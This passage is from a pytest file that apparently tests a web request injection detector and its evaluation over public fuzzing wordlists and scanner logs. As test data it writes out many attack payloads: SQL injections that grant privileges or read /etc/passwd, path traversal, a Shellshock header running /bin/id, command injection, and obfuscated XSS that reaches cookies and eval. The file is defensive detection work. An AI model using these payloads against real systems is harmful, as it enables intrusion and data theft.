    assert ev.RESERVED_LEFT_OUT[-1:] == ["942100-3"]


def test_eval_script_reads_fuzzdb_lists_and_its_exploit_strings(tmp_path: Path) -> None:
    ev = _eval_module()
    files = {
        **{name: "" for name in (*ev.FUZZDB_XSS, *ev.FUZZDB_RCE)},
        ev.FUZZDB_XSS[0]: "# a comment\n<x onxxx=1\nplain words\n",
        # the unix list writes a newline `\n`, the Windows list a space `+`
        ev.FUZZDB_RCE[0]: "\\nid\\n\nid\n",
        ev.FUZZDB_RCE[1]: "%26%26+|+dir+c:\\\n",
        ev.FUZZDB_XSS_WITH_CONTEXT: "Exploit Name: one\nExploit String: <svg onload=alert(1)>\nAuthor: x\n",
        "attack/sql-injection/detect/a.txt": "' ORDER BY 22-- \nhaving\n",
        "attack/sql-injection/exploit/b.txt": "1|uname -a\n",
        "attack/sql-injection/exploit/README.md": "' or 1=1--\n",  # not a list
        ev.FUZZDB_SSRF: "127.0.0.1\n0x7f.1\n2130706433\nlocalhost\n::1\n7F000001\n",
        ev.FUZZDB_CRLF: "%0d%0a\n%0d%0aSet-Cookie:%20a=1\n",
    }
    for name, text in files.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text)
    rows = ev.evaluate(ev.fuzzdb_cases(ev.Source(tmp_path)))
    assert {k: (v["hit"], v["total"]) for k, v in rows.items()} == {
        "fuzzdb xss": (2, 3),
        "fuzzdb xss [any class]": (2, 3),
        "fuzzdb sqli": (1, 2),
        "fuzzdb sqli [any class]": (2, 2),
        "fuzzdb sqli probes": (0, 1),
        "fuzzdb sqli probes [any class]": (0, 1),
        "fuzzdb rce": (2, 3),
        "fuzzdb rce [any class]": (2, 3),
        "fuzzdb ssrf": (2, 3),
        "fuzzdb ssrf [any class]": (2, 3),
        "fuzzdb ssrf probes": (0, 3),
        "fuzzdb ssrf probes [any class]": (0, 3),
        "fuzzdb crlf": (1, 1),
        "fuzzdb crlf [any class]": (1, 1),
        "fuzzdb crlf probes": (0, 1),
        "fuzzdb crlf probes [any class]": (0, 1),
    }
    assert rows["fuzzdb ssrf"]["misses"] == ["7F000001"]  # no parser reads hex without `0x`
    assert rows["fuzzdb xss"]["misses"] == ["plain words"]
    assert rows["fuzzdb rce"]["misses"] == ["id"]  # a word alone: no command line


def test_eval_script_reads_a_commix_request_log(tmp_path: Path) -> None:
    ev = _eval_module()
    log = tmp_path / "commix.log"
    log.write_text(
        "/ping?addr=198.18.0.7\n"  # the original request: no attack
        "/ping?addr=198.18.0.7%3Becho%20QWE%24%28%283%2B4%29%29\n"
        "/ping?addr=198.18.0.7%3Becho%20QWE%24%28%283%2B4%29%29\n"  # the same request again: once
        "/ping?addr=QWERTY\n"  # a marker alone: a probe
        "/ping?addr=198.18.0.7%3Bcat%20docs\n"  # a word after a common command: missed
        "/other?addr=198.18.0.7%3Bid\n"  # not the tested path
    )
    rows = ev.evaluate(ev.commix_cases(log))
    assert {k: (v["hit"], v["total"]) for k, v in rows.items() if "any" not in k} == {
        "commix rce": (1, 2),
        "commix rce probes": (0, 1),
    }
    assert rows["commix rce"]["misses"] == ["/ping?addr=198.18.0.7%3Bcat%20docs"]


def test_eval_script_reads_a_wapiti_request_log(tmp_path: Path) -> None:
    ev = _eval_module()
    ua = ["User-Agent", "scanner/1"]

    def entry(module: str, method: str, path: str, body: str = "", *headers: list[str]) -> str:
        ctype = "application/x-www-form-urlencoded" if body else ""
        fields = {"module": module, "method": method, "path": path, "type": ctype, "body": body}
        return json.dumps({**fields, "headers": [ua, *headers]})

    log = tmp_path / "wapiti.log"
    lines = [
        entry("file", "GET", "/lab"),  # the crawl: its headers are the module's own
        entry("file", "GET", "/greet?name=guest"),  # a value of the index: the crawl
        entry("file", "POST", "/greet", "name=guest", ["Referer", "http://198.18.0.1/lab"]),  # the crawl
        entry("file", "GET", "/greet?name=..%2F..%2F..%2Fetc%2Fpasswd"),
        entry("file", "GET", "/greet?..%2F..%2F..%2Fetc%2Fgroup"),  # the query sent whole
        entry("file", "GET", "/greet?name=..%2F..%2F..%2Fetc%2Fpasswd"),  # the same request again: once
        entry("file", "POST", "/greet", "name=../wapiti.txt"),  # one level to a made-up file: missed
        entry("xss", "GET", "/lab"),
        entry("xss", "GET", "/greet?name=w0a1b2c3d4"),  # a marker: a probe
        entry("xss", "POST", "/greet", "name=%3Cscript%3Ealert%28%27w0a1%27%29%3C%2Fscript%3E"),
        entry("exec", "GET", "/lab"),
        entry("exec", "GET", "/item?id=1", "", ["X-Note", "() { :;}; echo; /bin/id"]),  # in a header
    ]
    log.write_text("\n".join(lines) + "\n")
    rows = ev.evaluate(ev.wapiti_cases(log))
    assert {k: (v["hit"], v["total"]) for k, v in rows.items() if "any" not in k} == {
        "wapiti traversal": (2, 3),
        "wapiti xss probes": (0, 1),
        "wapiti xss": (1, 1),
        "wapiti rce": (1, 1),
    }
    assert rows["wapiti traversal"]["misses"] == ["file: POST /greet name=../wapiti.txt"]


def test_eval_script_reads_wfuzz_wordlists(tmp_path: Path) -> None:
    ev = _eval_module()
    (tmp_path / "wordlist" / "vulns").mkdir(parents=True)
    (tmp_path / "wordlist" / "Injections").mkdir()
    (tmp_path / "wordlist" / "vulns" / "dirTraversal-nix.txt").write_text("../../../etc/passwd\nreadme.txt\n")
    (tmp_path / "wordlist" / "vulns" / "dirTraversal-win.txt").write_text("..%5c..%5c..%5cboot.ini\n")
    (tmp_path / "wordlist" / "Injections" / "Traversal.txt").write_text("# a comment\n")
    (tmp_path / "wordlist" / "Injections" / "SQL.txt").write_text("' or 1=1--\n")
    (tmp_path / "wordlist" / "Injections" / "XSS.txt").write_text("<script>alert(1)</script>\n")
    rows = ev.evaluate(ev.wfuzz_cases(ev.Source(tmp_path)))
    assert {k: (v["hit"], v["total"]) for k, v in rows.items() if "any" not in k} == {
        "wfuzz traversal": (2, 3),
        "wfuzz traversal in the path": (2, 3),
        "wfuzz sqli": (1, 1),
        "wfuzz xss": (1, 1),
    }
    assert rows["wfuzz traversal"]["misses"] == ["readme.txt"]  # a file name alone climbs nowhere


def test_eval_script_posts_documentation_sentences_as_comments(tmp_path: Path) -> None:
    import gzip

    ev = _eval_module()
    (tmp_path / "pkg").mkdir()
    (tmp_path / "pkg" / "README").write_text(
        "Handles both 'deflate' and 'gzip' types of compression.\n\nRun `make install` as root; done.\n"
        "Short.\n"
    )
    with gzip.open(tmp_path / "pkg" / "changelog.Debian.gz", "wt") as f:
        f.write("  * New upstream release, closes the bug in the parser.\n")
    (tmp_path / "pkg" / "logo.png").write_bytes(b"\x89PNG the image is no documentation at all")
    rows = ev.evaluate(ev.prose_cases([tmp_path]))
    assert {k: (v["hit"], v["total"]) for k, v in rows.items() if "any" not in k} == {
        "benign prose": (0, 2),
        "benign technical text": (0, 1),
    }


def test_eval_script_generates_the_same_passwords_each_run() -> None:
    ev = _eval_module()
    first = [(row, req.label) for row, req in ev.password_cases()]
    assert first == [(row, req.label) for row, req in ev.password_cases()]
    assert {row for row, _ in first} == {"benign passwords, default symbols", "benign passwords, all symbols"}
    assert len(first) == 6 * ev.PASSWORDS_PER_LENGTH and {len(pw) for _, pw in first} == {12, 16, 20}


def test_eval_script_reads_old_and_new_app_logs(tmp_path: Path) -> None:
    ev = _eval_module()
    log = tmp_path / "app.log"
    post = {"method": "POST", "path": "/search", "type": "", "body": "q=1", "headers": []}
    get = {**post, "method": "GET", "path": "/item?id=2", "body": ""}
    log.write_text("/item?id=1\n" + json.dumps(post) + "\n" + json.dumps(get) + "\n")
    assert list(ev.logged_targets(log)) == ["/item?id=1", "/item?id=2"]


def test_eval_script_reads_the_html5_security_cheatsheet_vectors(tmp_path: Path) -> None:
    ev = _eval_module()
    (tmp_path / "payloads.js").write_text(
        "return {\n    'js_alert' : 'alert(1)',\n    'js_uri' : 'javascript:x()'\n};\n"
    )
    (tmp_path / "items.js").write_text(
        "return [\n    { 'id' : 1, 'name' : {'en' : 'a'},\n"
        "        'data' : '<svg onload=\"%js_alert%\">\\u003c/svg>',\n    },\n"
        "    { 'id' : 2,\n        'data' : '<div style=\"color:red\">It\\'s red</div>',\n    },\n];\n"
    )
    cases = list(ev.h5sc_cases(ev.Source(tmp_path)))
    assert [(row, req.label) for row, req in cases] == [
        ("h5sc xss", '1: <svg onload="alert(1)"></svg>'),
        ("h5sc xss", '2: <div style="color:red">It\'s red</div>'),
    ]
    rows = ev.evaluate(iter(cases))
    assert (rows["h5sc xss"]["hit"], rows["h5sc xss"]["total"]) == (1, 2)  # restyling runs no script


# -- generalised signals: payloads written here for each construct (none taken from a corpus) -------------

GENERALISED_SQLI = [
    # (value as the application receives it, the signal that must be among those reported)
    ("AND price > '", "condition left open"),  # the query supplies the closing quote
    ("or qty <= (", "condition left open"),  # ... or the subquery
    ("&&(flag!=", "condition left open"),
    ("if(3<", "condition left open"),
    ("AND archived = 0)", "condition on a column"),
    ("|| lower(nick) = 'root'", "condition on a column"),
    ("OR 'x'::text = 'x'::text", "boolean equality of literals"),  # casts keep literals literal
    ("OR '[3]'::jsonb @> '[3]'::jsonb", "boolean equality of literals"),  # containment operator
    ("or '{\"k\":1}' ? 'k'", "boolean equality of literals"),  # a JSON key-exists operator
    ("WHEN 41=41 THEN 1", "boolean equality of literals"),
    ("zz HAVING 9=9", "boolean equality of literals"),
    ("x' <> 'y", "comparison of quoted literals"),
    ("SELECT IIF(7 < 8, 'a', 'b')", "conditional on literals"),
    ("'or'7", "true literal after a quote and logic"),
    ('"||"3', "true literal after a quote and logic"),
    ("pq' and 2", "true literal after a quote and logic"),
    ("len(x) and 'true", "true literal after a quote and logic"),
    ("' or zz!", "starts by closing a quote into logic"),
    (";IF(7423=7423) WAITFOR DELAY '0:0:5'--", "stacked statement"),  # T-SQL's IF, then a statement
    ("1;if exists(select 1 from users) print 1", "stacked statement"),
    ("x';if(select count(*) from t)>0 shutdown--", "stacked statement"),
    (";REPLACE/**/t/**/(id, name) VALUES (1, 'x');", "stacked statement"),
    ("' grant connect to name; grant resource to name; --", "stacked statement"),  # privileges granted
    ("x'; GRANT ALL PRIVILEGES ON *.* TO 'evil'@'%';--", "stacked statement"),
    ("CREATE FUNCTION f (s CHAR(20)) RETURNS CHAR(50) RETURN CONCAT('a',s);", "routine created"),
    (") when 77 then", "shape probe"),  # a CASE continued after a bracket
    ("ALTER TABLE `t_x` CHANGE `a_b` `a_b` INT", "SQL statement"),  # identifiers are no prose
    ("abc\\' or 5", "logic after an escaped quote"),
    ("k'&name--", "unbalanced quote cut by a comment"),
    ("k' is not null#", "unbalanced quote cut by a comment"),
    ("val'glob'*'--", "ends in a comment"),
    ("n=3 or-- x", "logic cut by a comment"),
    ("declare @cmd nvarchar(99)", "SQL statement"),
    ("SET @saved_mode = 1", "SQL statement"),
    ("insert into audit (who) values ('me')", "SQL statement"),
    ("alter table accounts add column pwn int", "SQL statement"),
    ("truncate table logs;", "SQL statement"),
    ("delete from sessions where 1", "SQL statement"),
    ("update accounts set role = 'admin'", "SQL statement"),
    ("create table myfile (input TEXT);", "SQL statement"),  # a table to read a file into ...
    ("copy myfile from '/etc/passwd';", "SQL statement"),  # ... and PostgreSQL's COPY reading it
    ("'; create function f (x int) returns int --", "SQL definition"),
    ("INSERT/*x*/INTO t VALUES (1, 2)", "comment as a space"),
    ("1 union/*a*/select 2", "comment as a space"),
    ("secret::int", "type cast"),
    ("version()::double precision", "type cast"),
    ("pass*/=0--", "comment closed, never opened"),
    (") as alias_name from accounts", "alias then FROM after a bracket"),
    ("$ne", "query operator as a value"),
    ("PRINT @@spid", "system object"),
    ("lo_export(1234, '/tmp/x')", "system object"),
    ("1 union#x\nall select 2", "union select"),  # a line comment between UNION and SELECT
    ("nick' or handle glob handle;", "boolean equality of literals"),  # a column matched with itself
    ("x where 5=5", "boolean equality of literals"),
    ("qq or 31==31'", "boolean equality of literals"),
    ("count having 2>", "condition left open"),
    ("8 union distinct", "union begun"),
    ("12=12", "tautology of numbers"),  # a numeric parameter turned into a condition
    ("5 is not 6", "tautology of numbers"),
    ("select a from t group by a having max(b) > 1", "SQL statement"),
    ("7;select (case when 1 then 2 end)", "stacked statement"),
    ("0 or (select secret from vault limit 1)", "subquery reading a table"),
    ("5 in (select uid from staff where 1)", "subquery reading a table"),
    ("x') or exists (select * from `acct`)", "subquery reading a table"),
    ("select 0x4a4b4c", "select of a probe"),  # a hex string selected
    ("3 union select version (), 2", "select of a probe"),
    ("select concat(login,0x3a,pw)", "select of a probe"),
    ("select null,null from dual", "select of a probe"),
    ("select iif(2<3,9,8)", "select of a probe"),
    ("select (case when 4>3 then 1 else 0 end)", "select of a probe"),
    ("UN/**/ION SEL/**/ECT 1", "keyword split by a comment"),  # comments inside keywords
    ("9 AN/*z*/D 2=2", "boolean equality of literals"),
    ("TRUN/*-*/CATE logs", "keyword split by a comment"),
    ("w' not rlike 'q", "comparison of quoted literals"),  # negated pattern matches compare too
    ("k' sounds like 'k", "comparison of quoted literals"),
    ("or '{\"k\":1}' @> array['k']", "boolean equality of literals"),  # a PostgreSQL array literal
    ("from orders where total > 100", "FROM with a WHERE condition"),
    ("FROM `t_log` WHERE `t_log`.`n` = 4 LIMIT", "FROM with a WHERE condition"),
    ("from users where name like 'a%'", "FROM with a WHERE condition"),
    ('77 as "qq" from accounts', "alias then FROM after a bracket"),  # a literal aliased in a select list
    ("z'+(function(){var t=+new Date;while(+new Date-t<9000){}})()+'", "busy wait on the clock"),
    ('q" ;(function(){var s=Date.now(),e;do{e=Date.now()}while(e-s<7000)})();"', "busy wait on the clock"),
    # the tables that list users, schemas and tables, read by a query
    ("1 and 0 union select usename from pg_user", "system catalog read"),
    ("select name from sys.sql_logins", "system catalog read"),
    ("x' and exists(select 1 from all_users)--", "system catalog read"),
    ("select creator from sysibm.systables", "system catalog read"),
    # the database asked who and what it is; stacked statements that read or copy
    ("select system_user;", "SQL statement"),
    ("select database()--", "SQL statement"),
    ("\\'; desc accounts; --", "stacked statement"),
    ("1; show grants", "stacked statement"),
    ("q; copy t from '/etc/hostname'", "stacked statement"),
]


@pytest.mark.parametrize(("value", "signal"), GENERALISED_SQLI)
def test_generalised_sqli_signals(value: str, signal: str) -> None:
    assert signal in score(value)[1]
    body = b"q=" + quote_plus(value).encode()
    assert threats(check_request("/search", body, "application/x-www-form-urlencoded")) >= {"sql_injection"}


def test_program_code_is_no_prose() -> None:
    # words of code (`typeof`, `undefined`, `var`) do not make a value prose, which would take weight off
    wait = "me@shop.test' (function(){if(typeof done==='undefined'){var start=new Date();"
    wait += "do{var now=new Date();}while(now-start<6000);done=true;}}()) '"
    assert not prose(wait)
    assert sqli_value(wait) is not None
    assert prose("We went to the market and bought some apples and pears for the pie")


def test_keyword_split_by_a_comment_is_read_as_the_keyword() -> None:
    assert "keyword split by a comment" in score("DE/**/LETE/**/FROM t")[1]
    assert "keyword split by a comment" not in score("pre/**/fix and x/*y*/z")[1]
    # a MySQL version comment is executed, not a split: decoded elsewhere (`expose_mysql_comments`)
    assert "keyword split by a comment" not in score("/*!50000select*/ 1")[1]


def test_a_body_without_a_content_type_is_read_as_a_form() -> None:
    body = b"id=2+union+select+user(),2--&x=1"
    assert threats(check_request("/get", body, "")) == {"sql_injection"}
    assert threats(check_request("/get", b"q=%3Csvg%20onload%3Dalert(9)%3E", "")) == {"xss"}
    assert check_request("/get", b"name=O%27Brien&city=Cork", "") == []


def test_false_number_comparisons_and_escaped_quotes_are_not_injections() -> None:
    for value in ("4=44", "23!=23", "''or", "or something like that", "8 union members"):
        assert sqli_value(value) is None, value
    assert "union begun" in score("8 union distinct")[1]


def test_query_values_split_after_character_references_are_decoded() -> None:
    # `&#39;` and `&apos;` hold the pair separators `&` and `;`: the value is `' or`, not `#39`
    assert threats(check_request("/s?q=&#39;%20or&page=2")) == {"sql_injection"}
    assert threats(check_request("/s?q=&apos;+OR")) == {"sql_injection"}
    assert check_request("/s?q=Tom&amp;Jerry&page=2") == []


def test_semicolon_values_of_a_form_body_are_read_whole() -> None:
    # form bodies are split on `&` only by most frameworks: `;` belongs to the value
    body = b"mail=ann%40example.org%27+or+ann+like+ann+escape+%27x%27%3B&go=1"
    body_raw = b"mail=ann@example.org' or 1=1;&go=1"
    assert threats(check_request("/login", body, "application/x-www-form-urlencoded")) == {"sql_injection"}
    assert threats(check_request("/login", body_raw, "application/x-www-form-urlencoded")) == {
        "sql_injection"
    }
    assert check_request("/form", b"a=1;2;3&b=x;y", "application/x-www-form-urlencoded") == []


def test_nosql_operator_in_a_name_or_json_key() -> None:
    assert threats(check_request("/users?name[$gt]=")) == {"sql_injection"}
    assert threats(check_request("/users", b'{"name": {"$regex": ".*"}}', "application/json")) == {
        "sql_injection"
    }
    # JSON Schema's and Mongo's extended-JSON keys are no operators
    doc = b'{"$schema": "https://json-schema.org/draft/2020-12/schema", "$id": "x", "$ref": "#/a"}'
    assert check_request("/schemas", doc, "application/json") == []


def test_quote_lookalikes_and_doubled_quotes_are_decoded() -> None:
    assert variants("1\u2019 OR \u20191\u2019=\u20191")[-1] == "1' OR '1'='1"
    assert threats(check_request("/s?q=1%E2%80%99%20OR%20%E2%80%99a%E2%80%99%3D%E2%80%99a")) == {
        "sql_injection"
    }
    # doubled quotes are escapes: data to the database, so they are not read as quotes
    assert check_request("/s?q=" + quote_plus("''or")) == []
    assert check_request("/s?q=" + quote_plus("O\u2019Brien\u2019s caf\u00e9")) == []


GENERALISED_XSS = [
    '<i style="width:expression(top.name)">',  # IE CSS expression
    "p{-moz-binding:url(//198.18.0.9/b.xml#x)}",
    "li{behavior:url(x.htc)}",
    "q:url( 'javascript:top.name')",
    '"onanimationstart=top.name',  # an attribute value closed, a handler opened
    "' formaction=//198.18.0.9",
    "<q </onfoo=1",  # `<` inside a tag reads as part of an attribute name
    "top/*c*/./*d*/location='//198.18.0.9'",  # comments hide a DOM sink
    "(self)['document']['cookie']",
    "parent['location']=name",
    "[1].find.call`${prompt}`",  # a sink called through a tagged template
    "``.constructor.call`${alert}`",
    "x=(!![]+[])[+[]]",  # JSFuck
    "+ADw-img src=x onerror=alert(2)+AD4-",  # UTF-7
    "\xbciframe src=//198.18.0.9\xbe",  # 7-bit: Latin-1 with the high bit set
    "<o:frame src=//198.18.0.9/x>",  # a namespaced element that loads a source
    "x=new Function(name)",
    "<:imagedata src=//198.18.0.9/x>",  # a namespaced element with an empty prefix
    "document.getElementById('m').innerHTML='<b>pwn</b>'",  # markup written into the DOM
    "el.outerHTML = name",
    "document.body.insertAdjacentHTML('beforeend', location.hash)",
    'document.querySelector("#n").textContent="owned"',  # an element found and its text set
    "document.createElement('iframe').src='//198.18.0.9'",
    "Execute(MsgBox(chr(88)))",  # VBScript's dialog
    "<!--`--><img src=x onerror=alert(1)>",  # markup after a comment a backtick does not end
    # a sink's name assembled from pieces no other signal reads whole
    "a=0||'ev'+'al',b=0||location.hash,1[a](b.substr(1))",  # string literals joined
    "s1='jav';s2='ascr';s3='ipt:';s4='ale';s5='rt(1)';URL=s1+s2+s3+s4+s5",  # joined through variables
    "e=/ev/.source+/al/.source;7[e](name)",  # regular expressions' sources
    "b=top,a=/loc/ . source,a+=/ation/ . source,b[a=a]=name",
    "123[''+<_>ev</_>+<_>al</_>](name)",  # E4X literals
    'x=""[1?"ev\\a\\l":0](name)',  # escapes inside one string, the name called at run time
    "y=<a>alert</a>;content[y](1)",
    # markup sent base64-encoded, for an application that decodes it
    "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "amF2YXNjcmlwdDphbGVydCgxKQ==",
]


@pytest.mark.parametrize("value", GENERALISED_XSS)
def test_generalised_xss_signals(value: str) -> None:
    assert xss_value(value) is not None, value
    body = b"q=" + quote_plus(value, encoding="latin-1" if "\xbc" in value else "utf-8").encode()
    assert "xss" in threats(check_request("/c", body, "application/x-www-form-urlencoded"))


BENIGN_LOOKALIKES = [
    "style=color:navy;font-weight:bold",  # a style attribute that only restyles
    '<p style="margin:0 auto">centred</p>',
    "background: url(/img/bg.png) no-repeat",
    "if (a > b) return a;",  # code snippets in forms
    "function twice(x) { return x * 2; }",
    'She set "online=true" in the config',
    "x = [] + [] is an empty string",
    "Markdown: ![alt](img.png) and [x](y)",
    "C++ std::string and Foo::Bar::baz()",
    "x = 1 or y = 2",
    "It's not great --",
    "Tom's diner -- open late",
    "Click OK; grant access to the shared folder",  # a sentence that grants, not SQL's GRANT
    "done; grant them time to answer",
    "How to create table users (id int) in MySQL",  # a tutorial's sentence, no statement end
    "copy files from /tmp to the share",
    "user's guide, chapter 3 -- part 2",
    "remove old items: delete from cart",
    "Let's create table settings for the wedding",
    "(see above) as well from here",
    "He wrote 'drop it'; then left",
    "\u00bccup sugar and \u00becup flour",
    "\u201cSmart quotes\u201d and \u2018single\u2019 ones, O\u2019Brien\u2019s caf\u00e9",
    "Price+A+-+B",  # `+A…` in a form is spaces, not UTF-7
    "Please select 1, 2, or 3 options",  # SELECT in prose, a list of numbers after it
    "select if (and only if) you agree",
    "Select (case sensitive) matching",
    "select user (admin) from the menu",
    "(select one from the list below)",
    "I come from Paris where people like cheese",
    "Shipped from Berlin where it = cold",
    "About 5 as many from Europe",
    "the innerHTML property and document.body explained",  # prose about the DOM, no assignment
    "Compare a == b, not a = b; (see innerHTML==x)",
    "Pick a date between 1 and 12 (inclusive)",
    "x/*note*/y and a/* b */c",  # comments inside words that make no keyword
    "while (hi - lo < 1000) { mid = (hi + lo) >> 1 }",  # a loop in a code snippet, no clock read
    "Updated the date: now 2024-05-01, while we wait < 1000 replies",
    "Names: 'Eva', 'Lucy' (twins)",  # quoted words that spell a sink across prose, not an operator
    "x = 'eva' + 'luate' (a word made of pieces, not a sink)",
    "He said 'java' and then 'script' (twice)",
    "dXNlcjpwYXNzd29yZA==",  # base64 text with a colon: no markup
    "c3VwZXItc2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA=",
    "handlers[type](event) with 'alerts' in a list",
    # code pasted into a comment box: JavaScript's modules, Markdown's fences, C's `; if (…)`, an HTML
    # comment with backticks (an old IE quirk libinjection flags), open to the end of the value
    "import { tmpdir } from 'node:os';",
    "```cjs const { randomBytes } = require('node:crypto');",
    "```mjs import fs from 'node:fs';",
    "n = fread(buf, 1, sizeof(buf), stdin); if (n == 0) break;",
    "<!-- YAML added: v0.11.3 description: The `host` parameter is supported now.",
    "<!-- The `flush` option --> is new",
    "(bswap_if_le): New function (copied from nist-keywrap.c).",  # a changelog, not `new Function(`
    "Unlike `eval`, this function does not reach the lexical scope",  # a code span, no tagged template
    "Improved `setTimeout`/`Interval` performance by up to 22%.",
]


@pytest.mark.parametrize("value", BENIGN_LOOKALIKES)
def test_benign_lookalikes_of_the_generalised_signals(value: str) -> None:
    for uri, body, ctype in (
        ("/s?q=" + quote_plus(value), b"", ""),
        ("/api", json.dumps({"comment": value}).encode(), "application/json"),
        ("/form", b"comment=" + quote_plus(value).encode(), "application/x-www-form-urlencoded"),
    ):
        assert check_request(uri, body, ctype) == [], (value, uri)
